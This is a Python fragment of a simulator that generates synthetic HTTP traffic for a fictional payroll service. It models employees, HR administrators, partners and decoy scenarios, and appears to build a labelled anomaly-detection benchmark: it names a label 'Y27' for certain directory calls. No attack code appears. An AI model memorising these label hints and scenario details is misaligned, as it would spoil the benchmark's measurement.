    'roam': 'roaming_user: an employee on a trip, other networks', 'kiosk': 'shared_device: tablets on the shop floor, many people sign in with number and PIN for a minute each, some PINs wrong', 'scim': 'idp_sync: three identity providers look up users by SCIM on a timetable', 'scimload': 'idp_initial_load: day 3, a company connects its identity provider and 24 users are looked up, created or changed at once',
    'pension': 'partner_lookup: the pension provider reads changed employees and uploads contributions on working days', 'backfill': 'partner_backfill: day 8, the benefits partner reads all employees of its companies once after a fault of its own', 'keyrot': 'api_key_rotation: the rota partner changes its client secret and address on day 6', 'bi': 'bi_refresh: a reporting tool pages through the OData list every morning',
    'early': 'client_ahead_of_server: the new version asks for a function that the server does not have yet (404)',
    'dev': 'developer_mistypes: an integrator gets paths, keys and bodies wrong for two afternoons', 'stale': 'stale_token_loop: a home-screen widget goes on with an expired token', 'pwday': 'password_reset_day: day 4, a company makes all its staff change the password', 'crawl': 'search_crawler: a search engine reads vacancies, unordered',
    'bulkbank': 'bulk_bank_change: day 4, an HR administrator enters new sort codes for 26 people whose bank was taken over', 'trip': 'expense_backlog: a salesman enters 24 claims with receipts after a trip', 'preview': 'link_preview: a mail scanner fetches the links of notification mails without a token', 'couple': 'shared_home: two spouses of two companies behind one home address',
    'offboard': 'offboarding: an HR administrator ends 9 contracts in an hour', 'a11y': 'accessibility_tool: a screen reader user walks through every entry of each list slowly', 'import': 'importer: an HR administrator imports a spreadsheet of new staff, then opens all of them', 'hiring': 'trial_signups: new companies try the service, some with a referral code',
}


def build(name, seed, attacks, start='2026-05-18', days=16):
    st = ts(start)
    app = Payroll(random.Random(seed + 1), attacks, st)
    S = Sim(name, 'Paynest: HR and payroll service for many companies, synthetic', st, days, SRV, 8080, HOST, app, seed, 1, 'Synthetic application in the manner of ASP.NET Core (an in-process handler writes the answers). Outside traffic comes through the ingress 10.200.0.2 with X-Forwarded-For. Every call of GET /api/v1/directory after the release of day 9 is labelled with Y27.')
    r = S.rng
    for k, d in DECOYS.items():
        S.decoy('D-' + k, *d.split(': ', 1))
    out0 = S.local(2, 11.2)
    app.down = [(out0, out0 + 35 * MIN)]
    AND, IOS = ['Paynest/%s (Android 14; SM-A546B) okhttp/4.12.0', 'Paynest/%s (Android 13; Pixel 7a) okhttp/4.12.0'], ['Paynest/%s (com.paynest.app; build:5210; iOS 17.4.1) Alamofire/5.9.1', 'Paynest/%s (com.paynest.app; build:5210; iOS 16.7.7) Alamofire/5.9.1']

    # --- the state before
    slugs = {}
    for k, (g, n, size) in enumerate(TENANTS + [('abacus', 'Abacus & Co Accountants', 0), ('ledgerman', 'Ledgerman LLP', 0)]):
        t = app.ten[i] = dict(id=i, number=2041 + k * 7, slug=g, name=n, emps=[], ip=f'203.0.113.{10 + k * 3}') if (i := uid(app.rng)) else None
        slugs[g] = t
        for _ in range(size):
            app.employee(t['id'], st)
        for n_, e in enumerate(t['emps']):
            e, u = app.emp[e], app.users[app.emp[e]['uid']]
            u['role'] = HR if n_ == 0 or n_ == 1 and size > 30 else MGR if n_ % 8 == 2 else EMP
            u['mfa'] = u['role'] == HR
            u['sso'] = g in ('brightwell', 'halden', 'osprey')
        ms = [i for i in t['emps'] if app.users[app.emp[i]['uid']]['role'] == MGR] or t['emps'][:1]
        for i in t['emps']:
            app.emp[i]['mgr'] = r.choice(ms) if i not in ms else t['emps'][0] if i != t['emps'][0] else None
    tl = list(slugs.values())
    everyone = list(app.emp.values())
    for e in r.sample(everyone, len(everyone)):
        app.doc(e, 'Contract', f'Contract-{e["last"]}.pdf', st - 300 * DAY)
    for m, p in ((1, '01'), (2, '02'), (3, '03'), (4, '04')):
        for t in r.sample(tl, len(tl)):
            for i in t['emps']:
                app.doc(app.emp[i], 'Payslip', f'Payslip-2026-{p}.pdf', st - (5 - m) * 30 * DAY + 10 * DAY)
            if t['emps']:
                k = uid(r)
                app.runs[k] = dict(id=k, tid=t['id'], period=f'2026-{p}', pay=f'2026-{p}-28', status='Submitted', by=app.emp[t['emps'][0]]['email'], adj={})
    for e in r.sample(everyone, len(everyone)):
        app.doc(e, 'P60', 'P60-2025-26.pdf', st - 12 * DAY)
        for _ in range(r.choice([0, 0, 0, 1, 2])):
            c = app.claim(e, dict(amount=round(r.uniform(4, 280), 2), category=r.choice(['Travel', 'Meals', 'Equipment']), description=r.choice(SPEND), spentOn='2026-05-11'), st - r.random() * 20 * DAY)
            c['rec'].append((uid(r), 'receipt.jpg'))
            if r.random() < .6:
                c['status'] = 'Approved'
        if r.random() < .4:
            app.nl += 1
            app.leave[app.nl] = {'id': app.nl, 'employeeId': e['id'], 'type': 'Annual', 'from': '2026-06-15', 'to': '2026-06-19', 'days': 5, 'note': None, 'status': r.choice(['Approved', 'Pending']), 'createdAt': app.iso(st - 9 * DAY)}
            e['leave'].append(app.nl)
    for t in tl:
        if t['emps']:
            k = uid(r)
            app.runs[k] = dict(id=k, tid=t['id'], period='2026-05', pay='2026-05-29', status='Draft', by=None, adj={})
            t['run'] = k
        for _ in range(r.randint(2, 9) if t['emps'] else 0):
            app.nv += r.randint(1, 3)
            w = app.emp[t['emps'][0]]
            app.vac[app.nv] = dict(slug=t['slug'], title=r.choice(TITLES), loc=r.choice(['Leeds', 'Bristol', 'Cardiff', 'Glasgow', 'London']), pay=r.randint(22, 60) * 1000, who=f'{w["first"]} {w["last"]}', mail=w['email'])
    for g in ('corvid', 'merrow', 'osprey'):
        for d in range(days):
            for _ in range(r.randint(5, 9)):
                app.ns += r.randint(1, 2)
                app.shifts[app.ns] = dict(tid=slugs[g]['id'], day=d + 3, h=r.choice([4, 6, 8]), rate=round(r.uniform(11.5, 17), 2), site=r.choice(['North', 'Mill Lane', 'Harbour']), by=None, at=S.local(d, r.choice([10, 10, 12, 15, 16])) + r.random() * 1800)
    for _ in range(60):
        app.vouch['PN-' + ''.join(r.choices('ABCDEFGHJKLMNPQRSTUVWXYZ23456789', k=6))] = r.choice([10, 20, 25])

    # --- what clients do
    def web_h(ua):
        return {'Accept-Language': r.choice(['en-GB,en;q=0.9', 'en-GB,en-US;q=0.9,en;q=0.8', 'pl-PL,pl;q=0.9,en;q=0.8']), **WEBH}

    NOAUTH = {'Authorization': None}

    def take(cl, u, rs):
        cl.h['Authorization'], cl.exp, cl.refresh, cl.ident = 'Bearer ' + rs.body['accessToken'], S.now + 3600, rs.body['refreshToken'], u['id']

    def login(cl, u, pw=None, **k):
        """password, and the second factor; a generator that returns whether it worked"""
        rs = S.call(cl, 'POST', A + '/auth/login', js=dict(email=u['email'], password=pw or u['mem']), h=NOAUTH, ident=u['id'], **k)
        if rs.st == 200 and rs.body.get('mfaRequired'):
            t = rs.body['mfaToken']
            yield r.uniform(8, 30)
            if r.random() < .06:
                S.call(cl, 'POST', A + '/auth/mfa', js=dict(mfaToken=t, code=f'{r.randint(0, 999999):06}'), h=NOAUTH, ident=u['id'], **k)
                yield r.uniform(10, 30)
            rs = S.call(cl, 'POST', A + '/auth/mfa', js=dict(mfaToken=t, code=app.mfa[t][1]), h=NOAUTH, ident=u['id'], **k)
        if rs.st == 200:
            take(cl, u, rs)
        return rs.st == 200

    def recover(cl, u, **k):
        S.call(cl, 'POST', A + '/auth/forgot-password', js=dict(email=u['email']), h=NOAUTH, ident=u['id'], **k)
        yield r.uniform(40, 240)
        t = app.mail.get(u['email'])
        if not t:
            return
        u['mem'] = f'{r.choice(WORDS).title()}{r.choice("!-_.")}{r.randint(10, 9999)}'
        S.call(cl, 'POST', A + '/auth/reset-password', js=dict(email=u['email'], token=t, newPassword=u['mem']), h=NOAUTH, ident=u['id'], **k)
        yield r.uniform(3, 10)

    def signed(cl, u, **k):
        cl.ident = u['id']
        if 'Authorization' in cl.h and S.now < cl.exp - 90:
            return True
        if getattr(cl, 'refresh', None) and (cl.mobile or u.get('keep')):
            if 'okhttp' in (cl.ua or '') and 'Authorization' in cl.h and S.now > cl.exp + 300:      # This app finds out by the refusal.
                S.call(cl, 'GET', A + '/me', **k)
                yield .2
            rs = S.call(cl, 'POST', A + '/auth/refresh', js=dict(refreshToken=cl.refresh), h=NOAUTH, ident=u['id'], **k)
            cl.refresh = None
            if rs.st == 200:
                take(cl, u, rs)
                yield .2
                return True
        cl.h.pop('Authorization', None)
        if u['sso']:
            S.call(cl, 'GET', A + '/auth/discover?email=' + quote(u['email']), **k)
            yield r.uniform(6, 30)
            c = r.randbytes(20).hex()
            app.sso[c] = u['id']
            rs = S.call(cl, 'POST', A + '/auth/sso/exchange', js=dict(code=c, state=uid(r)), h=NOAUTH, ident=u['id'], **k)
            if rs.st == 200:
                take(cl, u, rs)
            return rs.st == 200
        if r.random() < .5 and not cl.mobile:
            S.call(cl, 'GET', A + '/auth/discover?email=' + quote(u['email']), **k)
            yield r.uniform(4, 15)
        if r.random() < .06:
            yield from login(cl, u, r.choice([u['mem'][:-1], u['mem'].lower(), u['mem'] + '1']), **k)
            yield r.uniform(5, 25)
        for _ in range(2):
            ok = yield from login(cl, u, **k)
            if ok:
                return True
            yield r.uniform(6, 30)
        if not u['active']:
            return False
        yield from recover(cl, u, **k)
        ok = yield from login(cl, u, **k)
        return ok

    def ask(cl, m, url, **k):
        rs = S.call(cl, m, url, **k)
        for n in range(r.randint(1, 4)):
            if rs.st != 503:
                break
            yield 2 ** n * r.uniform(.8, 2)
            rs = S.call(cl, m, url, **dict(k, dc='D-outage'))
        return rs

    def photos(cl, ids):
        for i in ids:
            tag = cl.tags.get(i)
            rs = S.call(cl, 'GET', f'{A}/employees/{i}/photo', h={'Accept': 'image/avif,image/webp,*/*', **({'If-None-Match': tag} if tag else {})})
            cl.tags[i] = rs.h.get('ETag', tag)

    def opening(cl, u):
        ok = yield from signed(cl, u)
        if not ok:
            return False
        if cl.mobile and '5.3' in cl.ua and r.random() < .3:
            S.call(cl, 'GET', A + '/me/wellbeing', dc='D-early')
        yield from ask(cl, 'GET', A + '/me')
        yield from ask(cl, 'GET', A + '/me/notifications')
        return True

    def do_payslips(cl, u, n=None):
        rs = yield from ask(cl, 'GET', A + '/me/documents?type=Payslip')
        yield r.lognormvariate(1.5, .6)
        v = rs.body['items'] if rs.st == 200 else []
        for x in v[:n or r.choice([1, 1, 1, 2])]:
            if not cl.mobile:
                yield from ask(cl, 'GET', f'{A}/documents/{x["id"]}')
                yield .2
            yield from ask(cl, 'GET', f'{A}/documents/{x["id"]}/content')
            yield r.lognormvariate(3, .7)
        if r.random() < .12:
            rs = yield from ask(cl, 'GET', A + '/me/documents')
            for x in [x for x in rs.body['items'] if x['type'] != 'Payslip'][:1] if rs.st == 200 else []:
                yield 5
                yield from ask(cl, 'GET', f'{A}/documents/{x["id"]}/content')

    def do_leave(cl, u):
        rs = yield from ask(cl, 'GET', A + '/leave/requests')
        if cl.mobile and '5.3' in cl.ua:
            yield from ask(cl, 'GET', A + '/team/calendar?month=2026-06', dc='D-feature')
        yield r.lognormvariate(2.2, .6)
        e = app.emp[u['emp']]
        if r.random() < .3:
            d = r.choice([.5, 1, 1, 2, 5])
            rs = yield from ask(cl, 'POST', A + '/leave/requests', js=dict(type=r.choice(['Annual', 'Annual', 'Annual', 'Sick', 'Unpaid']), **{'from': f'2026-06-{r.randint(8, 20):02}', 'to': f'2026-06-{r.randint(20, 30)}'}, days=d, note=r.choice([None, "daughter's graduation", 'dentist @ 3pm', 'moving house; back on Monday'])))
            yield 3
            if rs.st == 201 and r.random() < .15:
                yield from ask(cl, 'DELETE', f'{A}/leave/requests/{rs.body["id"]}')

    def multipart(fn, ct, b):
        m = '----WebKitFormBoundary' + f'{r.getrandbits(64):016x}'
        return f'--{m}\r\nContent-Disposition: form-data; name="file"; filename="{fn}"\r\nContent-Type: {ct}\r\n\r\n'.encode() + b + f'\r\n--{m}--\r\n'.encode(), f'multipart/form-data; boundary={m}'

    def one_claim(cl, u, amount=None, **k):
        rs = yield from ask(cl, 'POST', A + '/expenses', js=dict(amount=amount or round(r.lognormvariate(3.4, .9), 2), currency='GBP', category=r.choice(['Travel', 'Meals', 'Equipment', 'Mileage']), description=r.choice(SPEND), spentOn=time.strftime('%Y-%m-%d', time.gmtime(S.now - r.randint(0, 6) * DAY))), **k)
        if rs.st == 201:
            yield r.uniform(3, 15)
            b, ct = multipart(r.choice(['IMG_4410.jpg', 'receipt.pdf', 'scan (2).pdf', 'image.heic', "Dan's receipt.jpg"]), 'image/jpeg', r.randbytes(r.randint(1500, 8000)))
            S.call(cl, 'POST', f'{A}/expenses/{rs.body["id"]}/receipts', body=b, ct=ct, **k)

    def do_expense(cl, u):
        rs = yield from ask(cl, 'GET', A + '/expenses')
        yield r.lognormvariate(2, .6)
        v = rs.body['items'] if rs.st == 200 else []
        for x in r.sample(v, min(len(v), r.choice([0, 1, 1]))):
            rs = yield from ask(cl, 'GET', f'{A}/expenses/{x["id"]}')
            for y in rs.body['receipts'][:1] if rs.st == 200 else []:
                S.call(cl, 'GET', f'{A}/expenses/{x["id"]}/receipts/{y["id"]}')
            yield r.lognormvariate(2, .6)
        for _ in range(r.choice([0, 1, 1, 2])):
            yield r.uniform(20, 90)
            yield from one_claim(cl, u)

    def do_directory(cl, u):
        for p in range(1, r.choice([2, 2, 2, 3])):
            q = dict(search=r.choice([r.choice(GIVEN), r.choice(FAMILY)])[:r.randint(2, 8)].lower()) if r.random() < .5 else dict(page=p, pageSize=25)
            rs = yield from ask(cl, 'GET', A + '/directory?' + urlencode(q))
            if rs.st == 200:
                photos(cl, [x['id'] for x in rs.body['items'][:r.randint(2, 6)]])
            yield r.lognormvariate(2.2, .7)

    def do_profile(cl, u):
        yield r.uniform(3, 12)
        x, e = r.random(), app.emp[u['emp']]
        if x < .35:
            S.call(cl, 'PATCH', A + '/me/profile', js=dict(phone=f'07{r.randint(10**8, 10**9 - 1)}', address=e['addr']))
        elif x < .62:
            S.call(cl, 'POST', A + '/me/bank-details/challenge')
            yield r.uniform(15, 70)
            j = dict(sortCode=f'{r.randint(10, 99)}-{r.randint(10, 99)}-{r.randint(10, 99)}', accountNumber=f'{r.randint(10**7, 10**8 - 1)}', accountName=u['name'])
            if r.random() < .15:
                S.call(cl, 'PUT', f'{A}/employees/{e["id"]}/bank-details', js=dict(j, verificationCode=f'{r.randint(0, 999999):06}'))
                yield r.uniform(8, 30)
            S.call(cl, 'PUT', f'{A}/employees/{e["id"]}/bank-details', js=dict(j, verificationCode=u.get('code')))
        elif x < .72 and not u['sso']:
            n = f'{r.choice(WORDS).title()}!{r.randint(10, 9999)}'
            if S.call(cl, 'POST', A + '/auth/change-password', js=dict(currentPassword=u['mem'], newPassword=n)).st == 204:
                u['mem'] = n
        elif x < .8 and app.vouch:
            c = r.choice(sorted(app.vouch))
            if r.random() < .4:
                S.call(cl, 'POST', A + '/me/vouchers/redeem', js=dict(code=c[:-1] + r.choice('ABCX2')))
                yield r.uniform(8, 30)
            S.call(cl, 'POST', A + '/me/vouchers/redeem', js=dict(code=c))

    def do_shifts(cl, u):
        for _ in range(r.choice([1, 1, 2])):
            rs = yield from ask(cl, 'GET', A + '/shifts/open')
            yield r.lognormvariate(2.3, .7)
            v = rs.body['items'] if rs.st == 200 else []
            if v and r.random() < .35:
                yield from ask(cl, 'POST', f'{A}/shifts/{r.choice(v)["id"]}/claim')
        if r.random() < .15:
            rs = yield from ask(cl, 'GET', A + '/me/advances/available')
            yield r.uniform(6, 30)
            if rs.st == 200 and rs.body['available'] >= 50 and r.random() < .6:
                yield from ask(cl, 'POST', A + '/me/advances', js=dict(amount=r.choice([50, 50, 100])))

    def do_approvals(cl, u):
        rs = yield from ask(cl, 'GET', A + '/approvals')
        if rs.st != 200:
            return
        for x in rs.body['expenses'][:r.randint(1, 4)]:
            yield r.uniform(4, 30)
            c = yield from ask(cl, 'GET', f'{A}/expenses/{x["id"]}')
            for y in c.body['receipts'][:2] if c.st == 200 else []:
                S.call(cl, 'GET', f'{A}/expenses/{x["id"]}/receipts/{y["id"]}')
                yield r.uniform(3, 15)
            yield from ask(cl, 'POST', f'{A}/expenses/{x["id"]}/approve')
        for x in rs.body['leave'][:r.randint(1, 4)]:
            yield r.uniform(4, 20)
            yield from ask(cl, 'POST', f'{A}/leave/requests/{x["id"]}/approve')

    def do_team(cl, u):
        yield from ask(cl, 'GET', A + '/reports/headcount?sort=' + quote(r.choice(['name', 'count desc', 'department'])))
        yield r.uniform(4, 20)
        q = {'$filter': r.choice([f'ManagerId eq {u["emp"]}', "Status eq 'Active'", f"Department eq '{r.choice(DEPTS)}'", f"startswith(LastName,'{r.choice('ABCDMOSW')}')"]), '$select': 'Id,FirstName,LastName,JobTitle,StartDate', '$top': 25, '$count': 'true'}
        rs = yield from ask(cl, 'GET', '/odata/Employees?' + urlencode(q))
        mine = [x['Id'] for x in rs.body.get('value', [])] if rs.st == 200 and 'ManagerId' in q['$filter'] else []
        for i in mine[:r.randint(1, 3)]:
            yield r.uniform(5, 30)
            yield from ask(cl, 'GET', f'{A}/employees/{i}')

    def do_people(cl, u, **k):
        p = r.randint(1, 1 + len(app.ten[k.get('tid') or u['tid']]['emps']) // 26)
        h = {'X-Tenant-Id': k['tid']} if k.get('tid') else None
        rs = yield from ask(cl, 'GET', f'{A}/employees?page={p}&pageSize=25', h=h)
        v = [x['id'] for x in rs.body['items']] if rs.st == 200 else []
        for i in r.sample(v, min(len(v), r.randint(1, 5))):
            yield r.lognormvariate(2.5, .7)
            yield from ask(cl, 'GET', f'{A}/employees/{i}', h=h)
            x = r.random()
            if u['role'] == HR and x < .2:
                yield r.uniform(10, 60)
                S.call(cl, 'PATCH', f'{A}/employees/{i}', body=json.dumps([r.choice([dict(op='replace', path='/jobTitle', value=r.choice(TITLES)), dict(op='replace', path='/annualSalary', value=r.randint(24, 80) * 1000), dict(op='replace', path='/address', value='12 Mill Lane')])]).encode(), ct='application/json-patch+json')
            elif x < .4:
                rs = S.call(cl, 'GET', f'{A}/employees/{i}/documents', h=h)
                yield r.uniform(3, 20)
                for d in rs.body['items'][:r.choice([0, 1, 1])] if rs.st == 200 else []:
                    S.call(cl, 'GET', f'{A}/documents/{d["id"]}/content', h=h)
            elif x < .5 and u['role'] != SUP:
                S.call(cl, 'GET', f'{A}/employees/{i}/bank-details', h=h)

    def do_export(cl, u, tid=None):
        h = {'X-Tenant-Id': tid} if tid else None
        rs = yield from ask(cl, 'POST', A + '/exports', js=dict(kind=r.choice(['employees', 'payroll', 'leave', 'expenses']), format='csv'), h=h)
        if rs.st != 202:
            return
        i = rs.body['id']
        for _ in range(4):
            yield 1.5
            if S.call(cl, 'GET', f'{A}/exports/{i}', h=h).body.get('status') == 'Ready':
                break
        yield 1
        S.call(cl, 'GET', f'{A}/exports/{i}/file', h=h)

    def do_admin(cl, u):
        x, es = r.random(), app.ten[u['tid']]['emps']
        if x < .25:
            yield from ask(cl, 'GET', A + '/audit-log')
        elif x < .45:
            rs = yield from ask(cl, 'GET', A + '/users')
            yield r.uniform(10, 40)
            if rs.st == 200 and r.random() < .25:
                k = r.choice([x for x in rs.body if x['role'] != HR] or rs.body)
                S.call(cl, 'PUT', f'{A}/users/{k["userId"]}/role', js=dict(role=k['role'] if r.random() < .6 else r.choice([EMP, MGR])))
            elif rs.st == 200 and r.random() < .3:
                S.call(cl, 'POST', f'{A}/users/{r.choice(rs.body)["userId"]}/reset-mfa')
        elif x < .65:
            rs = yield from ask(cl, 'GET', f'{A}/employees?page=1&pageSize=25')
            yield 10
            if rs.st == 200 and rs.body['items']:
                for _ in range(r.randint(1, 3)):
                    S.call(cl, 'POST', A + '/letters/preview', js=dict(employeeId=r.choice(rs.body['items'])['id'], body=r.choice(['Dear @Model.FirstName @Model.LastName, we confirm your employment since @Model.StartDate.', "Dear @Model.FirstName, congratulations! Your pay rises by 3% (see p. 2) & the bonus is < 500.", 'To whom it may concern: @Model.FirstName @Model.LastName works here.'])))
                    yield r.uniform(10, 50)
        elif x < .75:
            rs = yield from ask(cl, 'GET', A + '/webhooks')
            yield 8
            if rs.st == 200 and not rs.body:
                rs = S.call(cl, 'POST', A + '/webhooks', js=dict(url=f'https://hooks.{app.ten[u["tid"]]["slug"]}.example/paynest', events=['employee.created', 'payslip.published']))
                if rs.st == 201:
                    yield 6
                    S.call(cl, 'POST', f'{A}/webhooks/{rs.body["id"]}/test')
            elif rs.st == 200 and r.random() < .5:
                S.call(cl, 'POST', f'{A}/webhooks/{rs.body[0]["id"]}/test')
        elif x < .8:
            S.call(cl, 'POST', A + '/company/logo/import', js=dict(url=f'https://www.{app.ten[u["tid"]]["slug"]}.example/assets/logo.png'))
        else:
            S.call(cl, 'POST', A + '/employees', js=dict(firstName=r.choice(GIVEN), lastName=r.choice(FAMILY), jobTitle=r.choice(TITLES), department=r.choice(DEPTS), startDate='2026-06-01'))

    def do_run(cl, u, tid=None, late=None):
        h = {'X-Tenant-Id': tid} if tid else None
        rs = yield from ask(cl, 'GET', A + '/payroll/runs', h=h)
        v = [x for x in rs.body['items'] if x['period'] == '2026-05'] if rs.st == 200 else []
        if not v:
            return
        i = v[0]['id']
        yield r.uniform(4, 20)
        yield from ask(cl, 'GET', f'{A}/payroll/runs/{i}', h=h)
        for p in range(1, 2 + (v[0]['employees'] - 1) // 25):
            rs = yield from ask(cl, 'GET', f'{A}/payroll/runs/{i}/lines?page={p}', h=h)
            yield r.lognormvariate(2.7, .6)
            if rs.st == 200 and v[0]['status'] in ('Draft', 'Calculated') and r.random() < .5:
                for x in r.sample(rs.body['items'], min(len(rs.body['items']), r.randint(1, 3))):
                    S.call(cl, 'PUT', f'{A}/payroll/runs/{i}/lines/{x["employeeId"]}', js=dict(adjustment=r.choice([50, 120.5, -40, 200])), h=h)
                    yield r.uniform(5, 30)
        if v[0]['status'] in ('Draft', 'Calculated'):
            yield from ask(cl, 'POST', f'{A}/payroll/runs/{i}/calculate', h=h)
        if late and v[0]['status'] in ('Draft', 'Calculated'):
            yield r.uniform(60, 900)
            S.call(cl, 'POST', f'{A}/payroll/runs/{i}/approve', h=h)
            yield r.uniform(20, 120)
            S.call(cl, 'POST', f'{A}/payroll/runs/{i}/submit', h=h)

    shop = {slugs[g]['id'] for g in ('corvid', 'merrow', 'osprey')}

    def visit(cl, u, n=None, only=None):
        ok = yield from opening(cl, u)
        if not ok:
            return
        fs, w = [do_payslips, do_leave, do_expense, do_directory, do_profile], [2, 2.4, 2, 2.2, .55]
        if u['tid'] in shop:
            fs, w = fs + [do_shifts], w + [3]
        if u['role'] in (MGR, HR):
            fs, w = fs + [do_approvals, do_team], w + [4, 1.6]
        if u['role'] == HR:
            fs, w = fs + [do_people, do_admin, do_export, do_run], [.6, .5, .5, .8, .1] + w[5:-2] + [3, 1, 9, 3.5, .7, 1]
        for f in only or r.choices(fs, weights=w, k=n or r.choice([1, 1, 2, 2, 3])):
            yield r.lognormvariate(1.7, .8)
            yield from f(cl, u)
        if not cl.mobile and r.random() < .25:
            S.call(cl, 'POST', A + '/auth/logout')
            cl.h.pop('Authorization', None)
            cl.refresh = None
    tools = dict(locals())

    # --- employees
    carrier = ['100.66.3.18', '100.66.9.77', '100.67.1.4']
    people = []
    for t in tl:
        for n_, i in enumerate(t['emps']):
            u = app.users[app.emp[i]['uid']]
            u['app'] = u['role'] != EMP or r.random() < .62
            if not u['app']:
                continue
            k = len(people)
            people.append(u)
            u['k'], u['keep'] = k, r.random() < .5
            desk = r.random() < .75 or u['role'] == HR
            ua = r.choice(WEB[:3])
            home = carrier[k // 3 % 3] if k % 9 == 0 else f'2001:db8:{0x2000 + k:x}::{k + 5:x}' if k % 13 == 0 else f'198.18.{k % 120}.{k % 240 + 5}'
            u['home'] = home
            u['web'] = u['phone'] = None
            if desk:
                big = t['slug'] in ('brightwell', 'corvid')
                u['web'] = C(t['ip'], ua, u['id'], dc='D-hr' if u['role'] == HR else 'D-office' if big else None, headers=web_h(ua))
                u['web'].mobile, u['web'].tags = False, {}
            if not desk or r.random() < .45:
                ua = (AND if k % 2 else IOS)[k // 2 % 2]
                u['phone'] = C(home, ua % '5.2.1', u['id'], dc='D-carrier' if home in carrier else None)
                u['phone'].mobile, u['phone'].tags, u['phone'].tpl = True, {}, ua
    release = st + 5 * DAY + 7 * HOUR
    roam = next(u for u in people if u['phone'] and u['role'] == EMP and u['k'] > 40)
    forget = [u for u in people if u['role'] == EMP and not u['sso'] and u['web']][5:8]
    reader = next(u for u in people if u['role'] == EMP and u['web'] and u['k'] > 90)

    def one(u, phone):
        cl = u['phone'] if phone else u['web']
        base = cl.dc
        d = (S.now - st) / DAY
        if phone and '5.2' in cl.ua and S.now > release + (u['k'] * 977 % 5000) * 70:
            cl.ua, cl.dc = cl.tpl % '5.3.0', base or 'D-release'
        if 7 <= d + 1 / 24 < 8 and not base:
            cl.dc = 'D-holiday'
        if u is roam and 8 < d < 12.4:
            cl.xff, cl.dc = ('192.0.2.91' if d < 10 else '192.0.2.133'), 'D-roam'
        elif u is roam:
            cl.xff = u['home']
        if u in forget and r.random() < .5:
            cl.dc = 'D-forget'
            cl.h.pop('Authorization', None)
            cl.refresh = None
            for n in range(r.randint(2, 6)):
                yield from login(cl, u, r.choice([u['mem'][:-1], u['mem'].lower(), u['mem'] + '!', 'Password1']))
                yield r.uniform(4, 25)
            if r.random() < .6:
                yield from recover(cl, u)
        yield from visit(cl, u)
        cl.dc = base
    for u in people:
        rate = r.choice([.07, .14, .24, .42]) * {EMP: 1, MGR: 2, HR: 3.1}[u['role']] if u not in forget and u is not roam else 1
        rate = min(rate, 1.6)
        for t in S.human_starts(rate, peaks=((9.2, .8), (12.6, .9), (16, 1.2)) if u['web'] else ((8, 1), (13, 1.5), (19.5, 1.8)), weekend=.05 if u['web'] and not u['phone'] else .45):
            d = int((t - st) / DAY)
            if d == 7 and r.random() < .88:
                continue
            h = ((t - st) / HOUR + 1) % 24
            phone = bool(u['phone']) and (not u['web'] or not 8.3 < h < 18 or r.random() < .15 or d == 7 or time.gmtime(t).tm_wday > 4)
            if not phone and not u['web']:
                continue
            S.spawn(t, one(u, phone))

    # --- pay day
    def payday(u):
        cl = u['phone'] or u['web']
        keep, cl.dc = cl.dc, 'D-payday'
        yield from visit(cl, u, only=[do_payslips])
        cl.dc = keep
    for u in people:
        if r.random() < .6:
            t = S.local(10, 17.1) + r.expovariate(1 / 5000) if u['phone'] and r.random() < .6 else S.local(11, r.gauss(9.5, .9))
            S.spawn(t, payday(u))

    def worker():
        cl = C('10.40.5.4', None, 'svc:payroll-worker')
        while True:
            S.call(cl, 'GET', '/internal/runs/due')
            d = int((S.now - st) / DAY)
            if d == 10 and S.now > S.local(10, 16.5) and not worker.done:
                worker.done = True
                for x in [x for x in app.runs.values() if x['period'] == '2026-05']:
                    S.call(cl, 'GET', f'/internal/bacs/{x["id"]}/file', dc='D-payrun')
                    yield r.uniform(2, 9)
                    S.call(cl, 'POST', '/internal/documents/bulk', js=dict(runId=x['id'], kind='Payslip'), dc='D-payrun')
                    yield r.uniform(4, 20)
            yield 5400
    worker.done = False
    S.spawn(S.local(0, .6), worker())

    def hmrc():
        cl = C('192.0.2.9', 'HMRC-RTI/3.1', 'hmrc')
        yield S.local(10, 19) - S.now
        for t in tl[:18]:
            S.call(cl, 'POST', '/callbacks/hmrc/rti', body=f'<GovTalkMessage><CorrelationID>{uid(r)}</CorrelationID></GovTalkMessage>'.encode(), ct='application/xml')
            yield r.uniform(20, 200)
    S.spawn(st + 3, hmrc())

    def later(d, h, g):
        S.spawn(S.local(d, h), g)

    # --- the outage, other days of one kind
    def impatient(u):
        cl = u['web'] or u['phone']
        keep, cl.dc = cl.dc, 'D-outage'
        for _ in range(r.randint(1, 3)):
            ok = yield from opening(cl, u)
            if ok:
                yield from r.choice((do_leave, do_payslips, do_directory))(cl, u)
            yield r.uniform(30, 240)
        cl.dc = keep
    for u in r.sample(people, 24):
        S.spawn(out0 + r.random() * 30 * MIN, impatient(u))

    def newpass(u):
        cl = u['web'] or u['phone']
        keep, cl.dc = cl.dc, 'D-pwday'
        ok = yield from opening(cl, u)
        yield r.uniform(10, 60)
        n = f'{r.choice(WORDS).title()}.{r.randint(10, 9999)}'
        if r.random() < .2:
            S.call(cl, 'POST', A + '/auth/change-password', js=dict(currentPassword=u['mem'][:-1], newPassword=n))
            yield r.uniform(6, 30)
        if ok and S.call(cl, 'POST', A + '/auth/change-password', js=dict(currentPassword=u['mem'], newPassword=n)).st == 204:
            u['mem'] = n
        cl.h.pop('Authorization', None)
        cl.refresh = None
        yield r.uniform(2, 8)
        yield from signed(cl, u)
        cl.dc = keep
    for u in [u for u in people if u['tid'] == slugs['corvid']['id'] and u['role'] == EMP]:
        later(4, r.gauss(11, 1.5), newpass(u))

    def trip(u):
        cl = u['web']
        keep, cl.dc = cl.dc, 'D-trip'
        yield from opening(cl, u)
        for _ in range(24):
            yield r.uniform(30, 100)
            yield from signed(cl, u)
            yield from one_claim(cl, u)
        cl.dc = keep
    later(8, 14, trip(next(u for u in people if u['tid'] == slugs['quill']['id'] and u['web'] and u['role'] == EMP)))

    def a11y(u):
        cl = u['web']
        for d in (1, 3, 8, 10):
            yield max(1, S.local(d, 10) - S.now)
            keep, cl.dc = cl.dc, 'D-a11y'
            yield from opening(cl, u)
            for url, key in ((A + '/me/documents', 'd'), (A + '/directory?page=1&pageSize=25', 'p'), (A + '/expenses', 'e')):
                rs = S.call(cl, 'GET', url)
                for x in rs.body['items'] if rs.st == 200 else []:
                    yield r.uniform(5, 14)
                    yield from signed(cl, u)
                    S.call(cl, 'GET', f'{A}/documents/{x["id"]}' if key == 'd' else f'{A}/employees/{x["id"]}/photo' if key == 'p' else f'{A}/expenses/{x["id"]}')
            cl.dc = keep
    S.spawn(st + 9, a11y(reader))

    def widget(u, d, h):
        cl0 = u['phone']
        yield from opening(cl0, u)
